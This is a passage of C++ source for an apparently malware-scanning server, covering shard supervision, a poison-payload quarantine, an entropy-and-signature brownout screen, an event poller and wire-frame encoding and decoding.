  [[nodiscard]] const Quarantine& quarantine() const noexcept {
    return quarantine_;
  }
  [[nodiscard]] BrownoutLadder& brownout() noexcept { return brownout_; }
  [[nodiscard]] const BrownoutLadder& brownout() const noexcept {
    return brownout_;
  }
  [[nodiscard]] const SupervisorConfig& config() const noexcept {
    return config_;
  }

  [[nodiscard]] std::uint64_t ticks() const noexcept {
    return ticks_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t stalls_detected() const noexcept {
    return stalls_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t deaths_detected() const noexcept {
    return deaths_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t shards_rebuilt() const noexcept {
    return rebuilds_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t rebuild_failures() const noexcept {
    return rebuild_failures_.load(std::memory_order_relaxed);
  }
  /// Recovery bookkeeping, called by the owner when it completes (or
  /// fails) a condemned shard's rebuild.
  void record_rebuild() noexcept;
  void record_rebuild_failure() noexcept;

  /// Registers the mel_super_* series on `registry`; call before
  /// traffic. Quarantine and brownout series ride along.
  void bind_metrics(obs::MetricsRegistry& registry);

 private:
  SupervisorConfig config_;
  SupervisionTable table_;
  Quarantine quarantine_;
  BrownoutLadder brownout_;

  /// First-tick timestamp, the death baseline for shards that have
  /// never beaten (0 until the first tick).
  std::chrono::steady_clock::time_point first_tick_{};

  std::atomic<std::uint64_t> ticks_{0};
  std::atomic<std::uint64_t> stalls_{0};
  std::atomic<std::uint64_t> deaths_{0};
  std::atomic<std::uint64_t> rebuilds_{0};
  std::atomic<std::uint64_t> rebuild_failures_{0};

  obs::Counter tick_counter_;
  obs::Counter stall_counter_;
  obs::Counter death_counter_;
  obs::Counter condemned_counter_;
  obs::Counter rebuild_counter_;
  obs::Counter rebuild_failure_counter_;
};

}  // namespace mel::super
