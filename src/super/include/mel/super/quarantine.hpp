#pragma once
// Poison-payload quarantine: a bounded offender list keyed by the
// 128-bit content fingerprint (the VerdictCache key, un-salted).
//
// A payload that wedges a shard once might have been unlucky timing; a
// payload that wedges shards repeatedly is poison, and re-scanning it
// on every retry turns one bad client into a rolling shard outage. The
// supervisor charges the wedging scan's fingerprint one offense per
// stall condemnation; at `quarantine_after` offenses the fingerprint is
// quarantined and the server refuses it with a typed kInvalidArgument
// verdict-of-record — a terminal, non-retryable answer — instead of
// scanning it again.
//
// The list is bounded (`capacity` tracked fingerprints, FIFO eviction)
// so an attacker cycling payloads degrades quarantine recall, never
// memory. Quarantine is keyed on content alone, not tenant: the shard a
// payload wedges serves every tenant.
//
// Thread-safety: all methods are safe from any thread (one mutex; the
// scan-path lookup is a single hash probe under it).

#include <atomic>
#include <cstddef>
#include <cstdint>
#include <deque>
#include <mutex>
#include <unordered_map>

#include "mel/obs/metrics.hpp"
#include "mel/persist/verdict_cache.hpp"

namespace mel::super {

struct QuarantineConfig {
  /// Offenses at which a fingerprint becomes quarantined.
  std::uint32_t quarantine_after = 2;
  /// Bound on tracked fingerprints (offenders and quarantined alike).
  std::size_t capacity = 1024;
};

class Quarantine {
 public:
  explicit Quarantine(QuarantineConfig config);

  /// Charges one offense to `fingerprint`; returns its updated offense
  /// count. Crossing the threshold quarantines it (and an already-full
  /// list evicts its oldest entry first).
  std::uint32_t record_offense(const persist::Fingerprint& fingerprint);
  [[nodiscard]] bool is_quarantined(
      const persist::Fingerprint& fingerprint) const;
  /// Accounting for a refusal served from the quarantine.
  void record_refusal() noexcept;

  /// Currently quarantined fingerprints.
  [[nodiscard]] std::size_t size() const;
  /// All tracked fingerprints (including sub-threshold offenders).
  [[nodiscard]] std::size_t tracked() const;
  [[nodiscard]] std::uint64_t offenses() const noexcept {
    return offenses_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t refusals() const noexcept {
    return refusals_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t evictions() const noexcept {
    return evictions_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] const QuarantineConfig& config() const noexcept {
    return config_;
  }

  /// Registers the mel_quarantine_* series on `registry`.
  void bind_metrics(obs::MetricsRegistry& registry);

 private:
  struct FingerprintHash {
    [[nodiscard]] std::size_t operator()(
        const persist::Fingerprint& key) const noexcept {
      return static_cast<std::size_t>(
          key.lo ^ (key.hi >> 1) ^ (key.length * 0x9E3779B97F4A7C15ull));
    }
  };

  QuarantineConfig config_;
  mutable std::mutex mutex_;
  std::unordered_map<persist::Fingerprint, std::uint32_t, FingerprintHash>
      offenders_;
  std::deque<persist::Fingerprint> order_;  ///< FIFO eviction order.
  std::size_t quarantined_ = 0;

  std::atomic<std::uint64_t> offenses_{0};
  std::atomic<std::uint64_t> refusals_{0};
  std::atomic<std::uint64_t> evictions_{0};

  obs::Gauge entries_gauge_;
  obs::Gauge tracked_gauge_;
  obs::Counter offense_counter_;
  obs::Counter refusal_counter_;
  obs::Counter eviction_counter_;
};

}  // namespace mel::super
