#pragma once
// Brownout degradation ladder: trade scan fidelity for survival.
//
// Under sustained supervision pressure (shards stalling or dying faster
// than they rebuild), refusing work outright — what admission control
// does — throws away cheap signal. "Detecting Malware with Information
// Complexity" shows entropy/compression screens are cheap and
// orthogonal to MEL, so the ladder degrades in two steps before the
// admission layer starts shedding:
//
//   kFull          — normal MEL scan, full budget. The paper's verdict
//                    (MEL >= tau => executable content) is authoritative.
//   kReducedBudget — MEL scan under BrownoutConfig::reduced_budget. The
//                    server flags every verdict served at this level
//                    degraded on the wire (the budget may not trip, but
//                    the fidelity contract already has).
//   kScreenOnly    — no MEL at all: screen_verdict() answers from byte
//                    entropy + signature hits. Always degraded.
//
// Degraded-verdict discipline carries over from the service layer: a
// reduced-budget scan carries a per-request budget override, which the
// VerdictCache already excludes, and screen verdicts never reach the
// service — so brownout can never pollute the cache with low-fidelity
// verdicts.
//
// Ladder mechanics (all on the caller's clock, normally fault::now()):
// record_pressure() marks an event; update() — called once per
// supervisor tick — escalates one level when `engage_pressure` events
// landed within `pressure_window`, and eases one level after
// `recover_after` of quiet. level() is a lock-free read for the shard
// hot path.

#include <atomic>
#include <chrono>
#include <cstdint>
#include <mutex>
#include <vector>

#include "mel/core/detector.hpp"
#include "mel/obs/metrics.hpp"
#include "mel/util/bytes.hpp"
#include "mel/util/status.hpp"

namespace mel::super {

enum class BrownoutLevel : std::uint8_t {
  kFull = 0,
  kReducedBudget = 1,
  kScreenOnly = 2,
};

[[nodiscard]] const char* brownout_level_name(BrownoutLevel level) noexcept;

/// The kScreenOnly detector: byte-entropy threshold plus optional
/// signature substrings.
struct ScreenConfig {
  /// Shannon entropy (bits/byte) at or above which the payload is
  /// flagged malicious: high-entropy content (packed/encrypted code)
  /// in a text channel is what MEL exists to catch, and plain text
  /// sits far below (~4.2 bits/byte for English).
  double entropy_threshold = 6.0;
  /// Byte patterns whose presence flags the payload malicious
  /// regardless of entropy (a minimal signature channel; the server
  /// owner seeds it, e.g. from a shellcode corpus).
  std::vector<util::ByteBuffer> signatures;
};

struct BrownoutConfig {
  /// Pressure events within `pressure_window` that escalate one level.
  std::uint32_t engage_pressure = 2;
  std::chrono::milliseconds pressure_window{1'000};
  /// Quiet time (no pressure) after which the ladder eases one level.
  std::chrono::milliseconds recover_after{2'000};
  /// The kReducedBudget scan budget (must be a real bound).
  core::ScanBudget reduced_budget{
      .decode_budget = 4'096,
      .deadline = std::chrono::milliseconds(50),
  };
  ScreenConfig screen;

  [[nodiscard]] util::Status validate() const;
};

/// The screen verdict for `payload`: malicious iff its byte entropy
/// reaches config.entropy_threshold or any signature matches. Always
/// flagged degraded — it carries no MEL (mel = 0) and `threshold`
/// holds the entropy threshold, not a tau.
[[nodiscard]] core::Verdict screen_verdict(util::ByteView payload,
                                           const ScreenConfig& config);

/// Shannon entropy of `payload` in bits per byte (0 for empty input).
[[nodiscard]] double byte_entropy(util::ByteView payload) noexcept;

class BrownoutLadder {
 public:
  explicit BrownoutLadder(BrownoutConfig config);

  /// Marks one pressure event (a stall or death condemnation).
  /// Thread-safe.
  void record_pressure(std::chrono::steady_clock::time_point now);
  /// Advances the ladder state machine; call once per supervisor tick.
  BrownoutLevel update(std::chrono::steady_clock::time_point now);
  /// Lock-free read for the scan hot path.
  [[nodiscard]] BrownoutLevel level() const noexcept {
    return static_cast<BrownoutLevel>(
        level_.load(std::memory_order_acquire));
  }

  [[nodiscard]] std::uint64_t escalations() const noexcept {
    return escalations_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t recoveries() const noexcept {
    return recoveries_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] const BrownoutConfig& config() const noexcept {
    return config_;
  }

  /// Registers the mel_super_brownout_* series on `registry`. The
  /// served-at-level counters are the owner's to increment (it knows
  /// which path a verdict actually took).
  void bind_metrics(obs::MetricsRegistry& registry);
  void record_reduced_scan() noexcept { reduced_counter_.inc(); }
  void record_screened_scan() noexcept { screened_counter_.inc(); }

 private:
  BrownoutConfig config_;
  std::atomic<std::uint8_t> level_{0};
  std::atomic<std::uint64_t> escalations_{0};
  std::atomic<std::uint64_t> recoveries_{0};

  std::mutex mutex_;  ///< Guards the window accounting below.
  std::uint32_t window_events_ = 0;
  std::chrono::steady_clock::time_point window_start_{};
  std::chrono::steady_clock::time_point last_pressure_{};

  obs::Gauge level_gauge_;
  obs::Counter escalation_counter_;
  obs::Counter recovery_counter_;
  obs::Counter reduced_counter_;
  obs::Counter screened_counter_;
};

}  // namespace mel::super
