#include "mel/super/brownout.hpp"

#include <algorithm>
#include <array>
#include <cmath>

namespace mel::super {

namespace {
using TimePoint = std::chrono::steady_clock::time_point;
}  // namespace

const char* brownout_level_name(BrownoutLevel level) noexcept {
  switch (level) {
    case BrownoutLevel::kFull:
      return "full";
    case BrownoutLevel::kReducedBudget:
      return "reduced_budget";
    case BrownoutLevel::kScreenOnly:
      return "screen_only";
  }
  return "unknown";
}

util::Status BrownoutConfig::validate() const {
  if (engage_pressure == 0) {
    return util::Status::invalid_config(
        "BrownoutConfig::engage_pressure must be >= 1");
  }
  if (pressure_window.count() < 1) {
    return util::Status::invalid_config(
        "BrownoutConfig::pressure_window must be >= 1ms");
  }
  if (recover_after.count() < 1) {
    return util::Status::invalid_config(
        "BrownoutConfig::recover_after must be >= 1ms");
  }
  if (reduced_budget.decode_budget == 0 &&
      reduced_budget.deadline.count() == 0) {
    return util::Status::invalid_config(
        "BrownoutConfig::reduced_budget must bound the scan (set a "
        "decode budget or a deadline)");
  }
  if (screen.entropy_threshold < 0.0 || screen.entropy_threshold > 8.0) {
    return util::Status::invalid_config(
        "ScreenConfig::entropy_threshold must be in [0, 8] bits/byte");
  }
  return util::Status::ok();
}

double byte_entropy(util::ByteView payload) noexcept {
  if (payload.empty()) return 0.0;
  std::array<std::uint64_t, 256> histogram{};
  for (const std::uint8_t byte : payload) ++histogram[byte];
  const double n = static_cast<double>(payload.size());
  double entropy = 0.0;
  for (const std::uint64_t count : histogram) {
    if (count == 0) continue;
    const double p = static_cast<double>(count) / n;
    entropy -= p * std::log2(p);
  }
  return entropy;
}

core::Verdict screen_verdict(util::ByteView payload,
                             const ScreenConfig& config) {
  core::Verdict verdict;
  verdict.degraded = true;
  verdict.mel = 0;
  verdict.threshold = config.entropy_threshold;
  verdict.alpha = 0.0;
  verdict.is_text =
      !payload.empty() &&
      std::all_of(payload.begin(), payload.end(), [](std::uint8_t byte) {
        return byte >= 0x20 && byte <= 0x7E;
      });
  bool signature_hit = false;
  for (const util::ByteBuffer& signature : config.signatures) {
    if (signature.empty() || signature.size() > payload.size()) continue;
    if (std::search(payload.begin(), payload.end(), signature.begin(),
                    signature.end()) != payload.end()) {
      signature_hit = true;
      break;
    }
  }
  verdict.malicious =
      signature_hit || (!payload.empty() &&
                        byte_entropy(payload) >= config.entropy_threshold);
  return verdict;
}

BrownoutLadder::BrownoutLadder(BrownoutConfig config)
    : config_(std::move(config)) {}

void BrownoutLadder::record_pressure(TimePoint now) {
  std::lock_guard<std::mutex> lock(mutex_);
  if (window_start_ != TimePoint{} &&
      now - window_start_ > config_.pressure_window) {
    // The old window expired before any update() noticed; events from
    // it must not count toward this one.
    window_events_ = 0;
    window_start_ = TimePoint{};
  }
  ++window_events_;
  if (window_start_ == TimePoint{}) window_start_ = now;
  last_pressure_ = std::max(last_pressure_, now);
}

BrownoutLevel BrownoutLadder::update(TimePoint now) {
  std::lock_guard<std::mutex> lock(mutex_);
  std::uint8_t level = level_.load(std::memory_order_relaxed);
  if (window_start_ != TimePoint{} &&
      now - window_start_ > config_.pressure_window &&
      window_events_ < config_.engage_pressure) {
    // The window elapsed below the engage threshold; start fresh.
    window_events_ = 0;
    window_start_ = TimePoint{};
  }
  if (window_events_ >= config_.engage_pressure) {
    if (level < static_cast<std::uint8_t>(BrownoutLevel::kScreenOnly)) {
      ++level;
      escalations_.fetch_add(1, std::memory_order_relaxed);
      escalation_counter_.inc();
    }
    window_events_ = 0;
    window_start_ = TimePoint{};
    last_pressure_ = std::max(last_pressure_, now);
  } else if (level > 0 && last_pressure_ != TimePoint{} &&
             now - last_pressure_ >= config_.recover_after) {
    // One level per quiet period, so a recovering fleet eases back to
    // full fidelity gradually instead of slamming open.
    --level;
    recoveries_.fetch_add(1, std::memory_order_relaxed);
    recovery_counter_.inc();
    last_pressure_ = now;
  }
  level_.store(level, std::memory_order_release);
  level_gauge_.set(level);
  return static_cast<BrownoutLevel>(level);
}

void BrownoutLadder::bind_metrics(obs::MetricsRegistry& registry) {
  level_gauge_ = registry.gauge(
      "mel_super_brownout_level",
      "Current brownout level (0 full, 1 reduced budget, 2 screen only).");
  escalation_counter_ =
      registry.counter("mel_super_brownout_escalations_total",
                       "Brownout ladder steps up under pressure.");
  recovery_counter_ =
      registry.counter("mel_super_brownout_recoveries_total",
                       "Brownout ladder steps back toward full fidelity.");
  reduced_counter_ = registry.counter(
      "mel_super_brownout_reduced_scans_total",
      "Scans served under the reduced decode budget (level 1).");
  screened_counter_ = registry.counter(
      "mel_super_brownout_screen_verdicts_total",
      "Verdicts served by the signature/entropy screen (level 2).");
}

}  // namespace mel::super
