#include "mel/net/poller.hpp"

#include <algorithm>

#include "mel/util/fault_injection.hpp"
#include <array>
#include <cerrno>
#include <cstring>
#include <limits>
#include <string>

#include <poll.h>
#include <unistd.h>

#if defined(__linux__)
#include <sys/epoll.h>
#define MEL_NET_HAVE_EPOLL 1
#else
#define MEL_NET_HAVE_EPOLL 0
#endif

namespace mel::net {

namespace {

std::string errno_string(const char* what) {
  return std::string(what) + ": " + std::strerror(errno);
}

}  // namespace

const char* poller_backend_name(PollerBackend backend) noexcept {
  switch (backend) {
    case PollerBackend::kAuto:
      return "auto";
    case PollerBackend::kEpoll:
      return "epoll";
    case PollerBackend::kPoll:
      return "poll";
  }
  return "unknown";
}

util::StatusOr<Poller> Poller::create(PollerBackend backend) {
  Poller poller;
  if (backend == PollerBackend::kAuto) {
    backend = MEL_NET_HAVE_EPOLL ? PollerBackend::kEpoll : PollerBackend::kPoll;
  }
  poller.backend_ = backend;
  if (backend == PollerBackend::kEpoll) {
#if MEL_NET_HAVE_EPOLL
    poller.epoll_fd_ = ::epoll_create1(EPOLL_CLOEXEC);
    if (poller.epoll_fd_ < 0) {
      return util::Status::internal(errno_string("epoll_create1"));
    }
#else
    return util::Status::invalid_config(
        "epoll poller backend requested on a non-Linux platform");
#endif
  }
  return poller;
}

Poller::Poller(Poller&& other) noexcept
    : backend_(other.backend_),
      epoll_fd_(other.epoll_fd_),
      registrations_(std::move(other.registrations_)) {
  other.epoll_fd_ = -1;
  other.registrations_.clear();
}

Poller& Poller::operator=(Poller&& other) noexcept {
  if (this != &other) {
    if (epoll_fd_ >= 0) ::close(epoll_fd_);
    backend_ = other.backend_;
    epoll_fd_ = other.epoll_fd_;
    registrations_ = std::move(other.registrations_);
    other.epoll_fd_ = -1;
    other.registrations_.clear();
  }
  return *this;
}

Poller::~Poller() {
  if (epoll_fd_ >= 0) ::close(epoll_fd_);
}

std::size_t Poller::watched_fds() const noexcept {
  return registrations_.size();
}

util::Status Poller::add(int fd, bool want_write) {
  if (fd < 0) return util::Status::invalid_argument("poller: negative fd");
  const auto it = std::find_if(
      registrations_.begin(), registrations_.end(),
      [fd](const Registration& r) { return r.fd == fd; });
  if (it != registrations_.end()) {
    return util::Status::invalid_argument(
        "poller: fd " + std::to_string(fd) + " already registered");
  }
#if MEL_NET_HAVE_EPOLL
  if (backend_ == PollerBackend::kEpoll) {
    ::epoll_event ev{};
    ev.events = EPOLLIN | (want_write ? EPOLLOUT : 0u);
    ev.data.fd = fd;
    if (::epoll_ctl(epoll_fd_, EPOLL_CTL_ADD, fd, &ev) != 0) {
      return util::Status::internal(errno_string("epoll_ctl(ADD)"));
    }
  }
#endif
  registrations_.push_back(Registration{fd, want_write});
  return util::Status::ok();
}

util::Status Poller::set_write_interest(int fd, bool want_write) {
  const auto it = std::find_if(
      registrations_.begin(), registrations_.end(),
      [fd](const Registration& r) { return r.fd == fd; });
  if (it == registrations_.end()) {
    return util::Status::invalid_argument(
        "poller: fd " + std::to_string(fd) + " is not registered");
  }
  if (it->want_write == want_write) return util::Status::ok();
#if MEL_NET_HAVE_EPOLL
  if (backend_ == PollerBackend::kEpoll) {
    ::epoll_event ev{};
    ev.events = EPOLLIN | (want_write ? EPOLLOUT : 0u);
    ev.data.fd = fd;
    if (::epoll_ctl(epoll_fd_, EPOLL_CTL_MOD, fd, &ev) != 0) {
      return util::Status::internal(errno_string("epoll_ctl(MOD)"));
    }
  }
#endif
  it->want_write = want_write;
  return util::Status::ok();
}

util::Status Poller::remove(int fd) {
  const auto it = std::find_if(
      registrations_.begin(), registrations_.end(),
      [fd](const Registration& r) { return r.fd == fd; });
  if (it == registrations_.end()) {
    return util::Status::invalid_argument(
        "poller: fd " + std::to_string(fd) + " is not registered");
  }
#if MEL_NET_HAVE_EPOLL
  if (backend_ == PollerBackend::kEpoll) {
    // Ignore failures: the fd may already be closed, which removed it.
    (void)::epoll_ctl(epoll_fd_, EPOLL_CTL_DEL, fd, nullptr);
  }
#endif
  registrations_.erase(it);
  return util::Status::ok();
}

util::Status Poller::set_deadline(
    int fd, std::chrono::steady_clock::time_point deadline) {
  const auto it = std::find_if(
      registrations_.begin(), registrations_.end(),
      [fd](const Registration& r) { return r.fd == fd; });
  if (it == registrations_.end()) {
    return util::Status::invalid_argument(
        "poller: fd " + std::to_string(fd) + " is not registered");
  }
  it->deadline = deadline;
  return util::Status::ok();
}

util::Status Poller::clear_deadline(int fd) {
  return set_deadline(fd, std::chrono::steady_clock::time_point::max());
}

std::chrono::steady_clock::time_point Poller::next_deadline() const noexcept {
  auto earliest = std::chrono::steady_clock::time_point::max();
  for (const Registration& r : registrations_) {
    earliest = std::min(earliest, r.deadline);
  }
  return earliest;
}

util::Status Poller::wait(std::vector<PollerEvent>& out,
                          std::chrono::milliseconds timeout) {
  out.clear();
  // Clamp the sleep so the earliest armed deadline wakes us. The
  // deadline axis is fault::now(), so an injected clock jump makes the
  // next wait() return immediately with the timer events due.
  const auto earliest = next_deadline();
  if (earliest != std::chrono::steady_clock::time_point::max()) {
    const auto until = std::chrono::duration_cast<std::chrono::milliseconds>(
        earliest - util::fault::now());
    // +1ms so we wake after the deadline, not just before it (poll
    // truncates to whole milliseconds).
    const auto clamp = std::max<std::chrono::milliseconds::rep>(
        0, until.count() + 1);
    if (timeout.count() < 0 || clamp < timeout.count()) {
      timeout = std::chrono::milliseconds{clamp};
    }
  }
  const int timeout_ms =
      timeout.count() < 0
          ? -1
          : static_cast<int>(std::min<std::chrono::milliseconds::rep>(
                timeout.count(), std::numeric_limits<int>::max()));
#if MEL_NET_HAVE_EPOLL
  if (backend_ == PollerBackend::kEpoll) {
    std::array<::epoll_event, 64> events;
    const int n = ::epoll_wait(epoll_fd_, events.data(),
                               static_cast<int>(events.size()), timeout_ms);
    if (n < 0) {
      if (errno == EINTR) return util::Status::ok();
      return util::Status::internal(errno_string("epoll_wait"));
    }
    out.reserve(static_cast<std::size_t>(n));
    for (int i = 0; i < n; ++i) {
      PollerEvent event;
      event.fd = events[static_cast<std::size_t>(i)].data.fd;
      const std::uint32_t mask = events[static_cast<std::size_t>(i)].events;
      event.readable = (mask & EPOLLIN) != 0;
      event.writable = (mask & EPOLLOUT) != 0;
      event.error = (mask & (EPOLLERR | EPOLLHUP)) != 0;
      out.push_back(event);
    }
    emit_timer_events(out);
    return util::Status::ok();
  }
#endif
  std::vector<::pollfd> fds;
  fds.reserve(registrations_.size());
  for (const Registration& r : registrations_) {
    ::pollfd p{};
    p.fd = r.fd;
    p.events = POLLIN | (r.want_write ? POLLOUT : 0);
    fds.push_back(p);
  }
  const int n = ::poll(fds.data(), fds.size(), timeout_ms);
  if (n < 0) {
    if (errno == EINTR) return util::Status::ok();
    return util::Status::internal(errno_string("poll"));
  }
  for (const ::pollfd& p : fds) {
    if (p.revents == 0) continue;
    PollerEvent event;
    event.fd = p.fd;
    event.readable = (p.revents & POLLIN) != 0;
    event.writable = (p.revents & POLLOUT) != 0;
    event.error = (p.revents & (POLLERR | POLLHUP | POLLNVAL)) != 0;
    out.push_back(event);
  }
  emit_timer_events(out);
  return util::Status::ok();
}

void Poller::emit_timer_events(std::vector<PollerEvent>& out) {
  const auto now = util::fault::now();
  for (Registration& r : registrations_) {
    if (r.deadline > now) continue;
    r.deadline = std::chrono::steady_clock::time_point::max();
    const auto it = std::find_if(out.begin(), out.end(),
                                 [&r](const PollerEvent& e) {
                                   return e.fd == r.fd;
                                 });
    if (it != out.end()) {
      it->timer = true;
    } else {
      PollerEvent event;
      event.fd = r.fd;
      event.timer = true;
      out.push_back(event);
    }
  }
}

}  // namespace mel::net
