#include "mel/net/frame.hpp"

#include <algorithm>
#include <bit>
#include <cassert>
#include <cstring>
#include <string>

namespace mel::net {

namespace {

// Header field offsets (see the layout table in frame.hpp).
constexpr std::size_t kOffMagic = 0;
constexpr std::size_t kOffVersion = 4;
constexpr std::size_t kOffType = 5;
constexpr std::size_t kOffFlags = 6;
constexpr std::size_t kOffTenant = 8;
constexpr std::size_t kOffRequestId = 12;
constexpr std::size_t kOffPayloadLen = 20;

static_assert(kOffPayloadLen + 4 == kFrameHeaderBytes);

// Error body layout (within the payload of a kError frame):
//   0   u8  status code (util::StatusCode)
//   1   u8  server protocol version
//   2   u16 message length
//   4   u32 reserved (must be zero)
//   8   u64 retry-after hint, nanoseconds
//   16  n   message bytes
constexpr std::size_t kErrorBodyFixedBytes = 16;

std::uint64_t double_bits(double value) noexcept {
  return std::bit_cast<std::uint64_t>(value);
}

double bits_double(std::uint64_t bits) noexcept {
  return std::bit_cast<double>(bits);
}

}  // namespace

util::Status FrameLimits::validate() const {
  if (max_payload_bytes == 0 ||
      max_payload_bytes > kAbsoluteMaxFramePayloadBytes) {
    return util::Status::invalid_config(
        "frame max_payload_bytes must be in [1, " +
        std::to_string(kAbsoluteMaxFramePayloadBytes) + "], got " +
        std::to_string(max_payload_bytes));
  }
  return util::Status::ok();
}

util::ByteBuffer encode_frame(const FrameHeader& header,
                              util::ByteView payload) {
  assert(payload.size() <= kAbsoluteMaxFramePayloadBytes &&
         "caller must respect the architectural payload ceiling");
  util::ByteBuffer out;
  out.reserve(kFrameHeaderBytes + payload.size());
  for (std::uint8_t byte : kFrameMagic) out.push_back(byte);
  out.push_back(header.version);
  out.push_back(static_cast<std::uint8_t>(header.type));
  util::append_le16(out, header.flags);
  util::append_le32(out, header.tenant);
  util::append_le64(out, header.request_id);
  util::append_le32(out, static_cast<std::uint32_t>(payload.size()));
  out.insert(out.end(), payload.begin(), payload.end());
  return out;
}

util::ByteBuffer encode_scan_request(service::TenantId tenant,
                                     std::uint64_t request_id,
                                     util::ByteView payload) {
  return encode_frame(FrameHeader{.type = FrameType::kScanRequest,
                                  .tenant = tenant,
                                  .request_id = request_id},
                      payload);
}

util::ByteBuffer encode_ping(std::uint64_t request_id) {
  return encode_frame(
      FrameHeader{.type = FrameType::kPing, .request_id = request_id}, {});
}

util::ByteBuffer encode_verdict(service::TenantId tenant,
                                std::uint64_t request_id,
                                const WireVerdict& verdict) {
  util::ByteBuffer body;
  body.reserve(kVerdictBodyBytes);
  body.push_back(verdict.malicious ? 1 : 0);
  body.push_back(verdict.degraded ? 1 : 0);
  body.push_back(verdict.is_text ? 1 : 0);
  body.push_back(verdict.loop_detected ? 1 : 0);
  util::append_le32(body, 0);  // reserved
  util::append_le64(body, static_cast<std::uint64_t>(verdict.mel));
  util::append_le64(body, double_bits(verdict.threshold));
  util::append_le64(body, double_bits(verdict.alpha));
  util::append_le64(body, verdict.scan_id);
  assert(body.size() == kVerdictBodyBytes);
  return encode_frame(FrameHeader{.type = FrameType::kVerdict,
                                  .tenant = tenant,
                                  .request_id = request_id},
                      body);
}

util::ByteBuffer encode_error(service::TenantId tenant,
                              std::uint64_t request_id,
                              const util::Status& status) {
  const std::string& message = status.message();
  const std::size_t message_len =
      std::min(message.size(), kMaxErrorMessageBytes);
  util::ByteBuffer body;
  body.reserve(kErrorBodyFixedBytes + message_len);
  body.push_back(static_cast<std::uint8_t>(status.code()));
  body.push_back(kProtocolVersion);
  util::append_le16(body, static_cast<std::uint16_t>(message_len));
  util::append_le32(body, 0);  // reserved
  util::append_le64(body,
                    static_cast<std::uint64_t>(status.retry_after().count()));
  body.insert(body.end(), message.begin(),
              message.begin() + static_cast<std::ptrdiff_t>(message_len));
  return encode_frame(FrameHeader{.type = FrameType::kError,
                                  .tenant = tenant,
                                  .request_id = request_id},
                      body);
}

util::ByteBuffer encode_pong(std::uint64_t request_id) {
  return encode_frame(
      FrameHeader{.type = FrameType::kPong, .request_id = request_id}, {});
}

util::StatusOr<WireVerdict> decode_verdict_body(util::ByteView body) {
  if (body.size() != kVerdictBodyBytes) {
    return util::Status::invalid_argument(
        "verdict body must be " + std::to_string(kVerdictBodyBytes) +
        " bytes, got " + std::to_string(body.size()));
  }
  for (std::size_t i = 0; i < 4; ++i) {
    if (body[i] > 1) {
      return util::Status::invalid_argument(
          "verdict flag byte " + std::to_string(i) + " must be 0 or 1");
    }
  }
  if (util::load_le32(body, 4) != 0) {
    return util::Status::invalid_argument(
        "verdict reserved field must be zero");
  }
  WireVerdict verdict;
  verdict.malicious = body[0] != 0;
  verdict.degraded = body[1] != 0;
  verdict.is_text = body[2] != 0;
  verdict.loop_detected = body[3] != 0;
  verdict.mel = static_cast<std::int64_t>(util::load_le64(body, 8));
  verdict.threshold = bits_double(util::load_le64(body, 16));
  verdict.alpha = bits_double(util::load_le64(body, 24));
  verdict.scan_id = util::load_le64(body, 32);
  return verdict;
}

util::StatusOr<WireError> decode_error_body(util::ByteView body) {
  if (body.size() < kErrorBodyFixedBytes) {
    return util::Status::invalid_argument(
        "error body must be at least " +
        std::to_string(kErrorBodyFixedBytes) + " bytes, got " +
        std::to_string(body.size()));
  }
  const std::uint8_t raw_code = body[0];
  if (raw_code == 0 || raw_code >= util::kStatusCodeCount) {
    return util::Status::invalid_argument(
        "error frame carries unknown status code " +
        std::to_string(raw_code));
  }
  const std::size_t message_len = util::load_le16(body, 2);
  if (message_len > kMaxErrorMessageBytes) {
    return util::Status::invalid_argument(
        "error message length " + std::to_string(message_len) +
        " exceeds the " + std::to_string(kMaxErrorMessageBytes) +
        "-byte cap");
  }
  if (body.size() != kErrorBodyFixedBytes + message_len) {
    return util::Status::invalid_argument(
        "error body size does not match its declared message length");
  }
  if (util::load_le32(body, 4) != 0) {
    return util::Status::invalid_argument(
        "error reserved field must be zero");
  }
  WireError error;
  error.server_version = body[1];
  util::Status status(
      static_cast<util::StatusCode>(raw_code),
      std::string(reinterpret_cast<const char*>(body.data()) +
                      kErrorBodyFixedBytes,
                  message_len));
  status.set_retry_after(std::chrono::nanoseconds(
      static_cast<std::int64_t>(util::load_le64(body, 8))));
  error.status = std::move(status);
  return error;
}

// --- FrameDecoder ---------------------------------------------------------

FrameDecoder::FrameDecoder(FrameLimits limits) : limits_(limits) {
  // An invalid cap would let a hostile length header drive unbounded
  // buffering; fall back to the default rather than trust it.
  if (!limits_.validate().is_ok()) limits_ = FrameLimits{};
}

std::span<std::uint8_t> FrameDecoder::write_area(std::size_t hint) {
  if (hint == 0) hint = 1;
  // An un-committed previous write_area is abandoned: trim it away so
  // stale uninitialized bytes can never reach the parser.
  buffer_.resize(write_base_);
  // Compact consumed bytes away first so the buffer's high-water mark
  // tracks one frame, not connection lifetime. This moves live bytes,
  // invalidating any un-released FrameView — documented in the header.
  if (read_pos_ > 0) {
    buffer_.erase(buffer_.begin(),
                  buffer_.begin() + static_cast<std::ptrdiff_t>(read_pos_));
    read_pos_ = 0;
  }
  write_base_ = buffer_.size();
  buffer_.resize(write_base_ + hint);
  return {buffer_.data() + write_base_, hint};
}

void FrameDecoder::commit(std::size_t n) noexcept {
  assert(write_base_ + n <= buffer_.size() &&
         "commit() larger than the open write area");
  // Shrinking a vector of bytes neither reallocates nor throws.
  buffer_.resize(write_base_ + n);
  write_base_ = buffer_.size();
}

void FrameDecoder::feed(util::ByteView bytes) {
  if (bytes.empty()) return;
  std::span<std::uint8_t> area = write_area(bytes.size());
  std::memcpy(area.data(), bytes.data(), bytes.size());
  commit(bytes.size());
}

util::StatusOr<std::optional<FrameView>> FrameDecoder::next() {
  if (!error_.is_ok()) return error_;
  release();  // Consume a frame the caller forgot to release.

  const std::size_t available = buffered_bytes();
  if (available < kFrameHeaderBytes) return std::optional<FrameView>();
  const util::ByteView head(buffer_.data() + read_pos_, kFrameHeaderBytes);

  if (!std::equal(kFrameMagic.begin(), kFrameMagic.end(), head.begin())) {
    return poison(util::Status::invalid_argument(
        "bad frame magic (expected \"MELW\")"));
  }
